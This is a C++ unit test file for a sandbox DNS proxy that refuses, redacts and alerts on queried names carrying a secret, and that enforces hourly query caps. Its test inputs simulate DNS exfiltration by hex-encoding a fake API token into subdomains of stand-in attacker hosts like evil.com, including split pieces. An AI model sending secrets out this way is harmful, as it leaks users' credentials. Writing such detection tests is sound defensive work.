// Secrets and caps on the path: what holds a secret never goes upstream and is never shown; who asks too much
// is cut.
#include <random>

#include "tests/unit/path/leak_world.h"

using namespace postern;
using postern::test::LeakWorld;

namespace {

const std::string open_budgets = "types: any\nnames: any\nbudgets: unlimited\non_tunnel: alert\n";
const std::string token = "gX7-tokenQ9z4Lw2Rk81";  // 20 octets
const std::string token_hex = "6758372d746f6b656e51397a344c7732526b3831";

std::shared_ptr<const SecretSet> secrets(std::vector<SecretValue> values = {{"API_KEY", token}}) {
  return *SecretSet::make(std::move(values), "key", *LeakWorld::shared_parts().code->tables().model);
}

const Asked& last_row(const LeakWorld& world) {
  return world.journal.rows.rbegin()->second;
}

}  // namespace

TEST_CASE(
    "a name that holds a secret is refused, told and not forwarded; what is on record does not show it") {
  LeakWorld world(open_budgets);
  SandboxState& box = world.attach("s", "u", "", secrets());
  CHECK(world.ask(box, "www.example.com") == 0);
  CHECK(world.ask(box, token_hex + ".evil.com") == 3);
  CHECK(world.last_text().find("secret") != std::string::npos);
  CHECK(world.seen.size() == 1);
  CHECK(last_row(world).name.text() == "[secret:api_key].evil.com");
  CHECK(last_row(world).registered_labels == 2);
  CHECK(last_row(world).reason == Reason::secret);
  CHECK(world.journal.rules.at(static_cast<std::size_t>(last_row(world).rule)) == "secret: API_KEY");
  REQUIRE(world.alerts("secret") == 1);
  const AlertRow& alert = world.journal.alerts.back();
  CHECK(alert.zone == "evil.com");
  CHECK(alert.action == "refuse");
  CHECK(alert.asked == world.journal.rows.rbegin()->first);
  CHECK(alert.evidence.find("\"encoding\":\"hex\"") != std::string::npos);
  CHECK(alert.evidence.find("\"secret\":\"API_KEY\"") != std::string::npos);
  // Another zone goes on, and so does this one with another name.
  CHECK(world.ask(box, "www.evil.com") == 0);
  CHECK(box.counters.secrets == 1);
}

TEST_CASE("refused names are looked at as well: by policy, by type, by class") {
  LeakWorld world("block: [\"**.evil.com\"]\n");
  SandboxState& box = world.attach("s", "u", "", secrets());
  CHECK(world.ask(box, token_hex + ".evil.com") == 3);
  CHECK(last_row(world).reason == Reason::secret);
  CHECK(world.ask(box, token_hex + ".other.com", type::NULL_) == 3);
  CHECK(last_row(world).reason == Reason::secret);
  CHECK(world.alerts("secret") == 2);
  CHECK(world.ask(box, token_hex + ".local") == 3);
  CHECK(last_row(world).name.text().find(token_hex) == std::string::npos);
}

TEST_CASE("a secret is told once for each zone, and many zones are one more alert") {
  LeakWorld world(open_budgets);
  SandboxState& box = world.attach("s", "u", "", secrets());
  for (int round = 0; round < 3; ++round)
    for (int zone = 0; zone < 80; ++zone) world.ask(box, token_hex + ".evil" + std::to_string(zone) + ".com");
  CHECK(world.alerts("secret") == SecretTold::max_told + 1);
  CHECK(box.counters.secrets == 240);
  CHECK(world.seen.empty());
}

TEST_CASE("by policy the zone is blocked for the session, or the session is quarantined") {
  LeakWorld world("policies:\n  zone: {on_secret: block-zone}\n  all: {on_secret: quarantine}\n");
  SandboxState& zone = world.attach("s1", "u", "zone", secrets());
  CHECK(world.ask(zone, "www.evil.com") == 0);
  CHECK(world.ask(zone, token_hex + ".evil.com") == 3);
  CHECK(world.journal.alerts.back().action == "block-zone");
  CHECK(world.ask(zone, "www.evil.com") == 3);
  CHECK(world.ask(zone, "www.example.com") == 0);
  SandboxState& all = world.attach("s2", "u", "all", secrets());
  CHECK(world.ask(all, token_hex + ".evil.com") == 3);
  CHECK(world.journal.alerts.back().action == "quarantine");
  CHECK(world.ask(all, "www.example.com") == 3);
  CHECK(last_row(world).reason == Reason::quarantine);
}

TEST_CASE("secrets are the session's: its other sandboxes are watched, other sessions are not") {
  LeakWorld world(open_budgets);
  SandboxState& first = world.attach("s", "u", "", secrets());
  SandboxState& second = world.attach("s");
  SandboxState& other = world.attach("t");
  CHECK(world.ask(second, token_hex + ".evil.com") == 3);
  CHECK(world.ask(other, token_hex + ".evil.com") == 0);
  world.detach(first);
  world.detach(second);
  SandboxState& third = world.attach("s");  // after the last one was gone
  CHECK(world.ask(third, token_hex + ".evil.com") == 3);
  // A further value, on top; the caller has merged them.
  world.attach("s", "u", "", secrets({{"API_KEY", token}, {"OTHER", "correct-horse-battery"}}));
  CHECK(world.ask(third, "correct-horse-battery.evil.com") == 3);
  CHECK(world.ask(third, token_hex + ".evil.org") == 3);
}

TEST_CASE("pieces spread over queries, by two sandboxes of the session, are found together") {
  LeakWorld world(open_budgets);
  SandboxState& first = world.attach("s", "u", "", secrets());
  SandboxState& second = world.attach("s");
  std::size_t forwarded = 0;
  for (std::size_t at = 0; at < token_hex.size(); at += 4) {
    const std::size_t before = world.seen.size();
    world.ask(at % 8 == 0 ? first : second, std::to_string(at) + "." + token_hex.substr(at, 4) + ".evil.com");
    forwarded += world.seen.size() - before;
  }
  CHECK(forwarded <= 4);  // 16 digits: 8 octets
  CHECK(world.alerts("secret") == 1);
  CHECK(world.journal.alerts.back().evidence.find("\"split\":true") != std::string::npos);
}

TEST_CASE("a name in use that turns out to hold a secret is not refreshed") {
  LeakWorld world(open_budgets);
  SandboxState& box = world.attach("s");
  world.ttl = 60;
  CHECK(world.ask(box, token_hex + ".evil.com") == 0);
  world.advance(1000);
  CHECK(world.ask(box, token_hex + ".evil.com") == 0);  // in use from now on
  world.attach("s", "u", "", secrets());
  const std::size_t before = world.seen.size();
  for (int i = 0; i < 200; ++i) world.advance(1000);
  CHECK(world.seen.size() == before);
  CHECK(world.ask(box, token_hex + ".evil.com") == 3);
}

TEST_CASE("whatever is asked, nothing that is kept or told holds the value in any letter case") {
  LeakWorld world("on_tunnel: alert\ntypes: any\nnames: any\nbudgets: unlimited\n");
  SandboxState& box = world.attach("s", "u", "", secrets());
  std::mt19937_64 dice(5);
  for (int i = 0; i < 3000; ++i) {
    std::string below;
    const std::string& text = dice() % 2 == 0 ? token_hex : token;
    if (dice() % 4 == 0) below += "x" + std::to_string(dice() % 100) + ".";
    below += text;
    if (dice() % 4 == 0) below += ".y" + std::to_string(dice() % 100);
    if (dice() % 3 == 0) below.insert(below.find(text) + 1 + dice() % (text.size() - 1), ".");
    world.ask(box, below + ".zone" + std::to_string(dice() % 50) + ".com",
              dice() % 2 == 0 ? type::A : type::TXT);
    if (dice() % 50 == 0) world.ask(box, token + ".com");
  }
  std::string all;
  for (const auto& [id, row] : world.journal.rows) all += row.name.text() + "\n";
  for (const AlertRow& row : world.journal.alerts) all += row.zone + row.evidence + "\n";
  for (const std::string& one : world.told) all += one + "\n";
  for (const std::string& rule : world.journal.rules) all += rule + "\n";
  for (char& c : all) c = static_cast<char>(fold(static_cast<std::uint8_t>(c)));
  for (const std::string& text : {token_hex, token})
    for (std::size_t at = 0; at + 12 <= text.size(); ++at) {
      std::string part = text.substr(at, 12);
      for (char& c : part) c = static_cast<char>(fold(static_cast<std::uint8_t>(c)));
      CHECK_MESSAGE(all.find(part) == std::string::npos, part);
    }
  CHECK(world.alerts("secret") > 0);
  CHECK(world.seen.empty());
}

TEST_CASE("a redacted name keeps within 255 octets, whatever the zone") {
  LeakWorld world(open_budgets);
  SandboxState& box = world.attach("s", "u", "", secrets({{std::string(32, 'L'), token}}));
  const std::string zone = std::string(63, 'a') + "." + std::string(63, 'b') + "." + std::string(63, 'c');
  CHECK(world.ask(box, token + "." + zone + ".x-5k.evil.com") == 3);
  CHECK(last_row(world).name.text() == "[secret:" + std::string(32, 'l') + "].evil.com");
  CHECK(world.ask(box, token + ".com") == 3);
  CHECK(last_row(world).name.text() == "[secret:" + std::string(32, 'l') + "].com");
  CHECK(last_row(world).registered_labels == 1);
}

TEST_CASE("more queries than the cap within an hour end the session's questions, whatever became of them") {
  LeakWorld world("block: [\"**.blocked.com\"]\nbudgets: {queries: 20}\n");
  SandboxState& box = world.attach("s");
  SandboxState& again = world.attach("s");
  for (int i = 0; i < 10; ++i) {
    CHECK(world.ask(box, "www.example.com") == 0);
    CHECK(world.ask(again, "a.blocked.com") == 3);
  }
  CHECK(world.alerts("query_cap") == 0);
  CHECK(world.ask(box, "www.example.com") == 3);  // the 21st
  CHECK(last_row(world).reason == Reason::quarantine);
  CHECK(world.ask(again, "www.example.org") == 3);
  CHECK(world.alerts("query_cap") == 1);
  const AlertRow& alert = world.journal.alerts.back();
  CHECK(alert.action == "quarantine");
  CHECK(alert.zone.empty());
  CHECK(alert.evidence.find("\"queries\":21") != std::string::npos);
  CHECK(alert.evidence.find("\"cap\":20") != std::string::npos);
  SandboxState& other = world.attach("t");
  CHECK(world.ask(other, "www.example.com") == 0);
}

TEST_CASE("the cap is for an hour: the same queries at a slower pace go on, and under on_cap: alert all do") {
  LeakWorld world("on_cap: alert\nbudgets: {queries: 20}\n");
  SandboxState& box = world.attach("s");
  for (int i = 0; i < 200; ++i) {  // one in four minutes: 15 an hour
    CHECK(world.ask(box, "www.example.com") == 0);
    world.advance(240'000);
  }
  CHECK(world.alerts("query_cap") == 0);
  for (int i = 0; i < 50; ++i) CHECK(world.ask(box, "www.example.com") == 0);
  CHECK(world.alerts("query_cap") == 1);
  world.advance(3'600'000);
  for (int i = 0; i < 50; ++i) world.ask(box, "www.example.com");
  CHECK(world.alerts("query_cap") == 2);  // an hour later it is a new story
}
